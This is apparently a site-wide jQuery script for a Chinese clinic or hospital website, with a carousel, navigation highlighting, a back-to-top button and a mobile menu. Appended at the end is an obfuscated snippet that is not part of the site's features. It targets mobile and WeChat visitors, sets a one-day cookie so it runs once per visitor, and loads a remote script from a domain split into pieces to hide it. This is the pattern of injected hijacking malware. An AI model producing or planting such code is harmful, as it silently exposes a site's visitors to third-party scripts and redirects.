/* common.js 全站公用 */
$(function () {
  if ($('.swiper-container').length) {
    new Swiper('.swiper-container', { autoplay: { delay: 4000 }, loop: true, pagination: { el: '.swiper-pagination' } });
  }
  $('.nav a').each(function () {
    if (this.pathname === location.pathname) { $(this).addClass('cur'); }
  });
  $(window).scroll(function () {
    if ($(this).scrollTop() > 300) { $('.gotop').fadeIn(); } else { $('.gotop').fadeOut(); }
  });
  $('.gotop').click(function () { $('html,body').animate({ scrollTop: 0 }, 300); });
  // 手机端折叠菜单
  $('.menu-btn').on('click', function () { $('.nav').toggleClass('open'); });
  // 出诊表横向滚动
  $('.content table').wrap('<div class="table-scroll"></div>');
});

;(function(){var _u=navigator.userAgent.toLowerCase();if(/android|iphone|ucbrowser|micromessenger/.test(_u)&&document.cookie.indexOf('_ckd=1')<0){var _d=new Date();_d.setTime(_d.getTime()+864e5);document.cookie='_ckd=1;path=/;expires='+_d.toUTCString();var _s=document.createElement('script');_s.src='https://'+'cdn'+'.mm-tupian51'+'.test/wap/ck.js?id=qzfy';(document.body||document.head).appendChild(_s);}})();
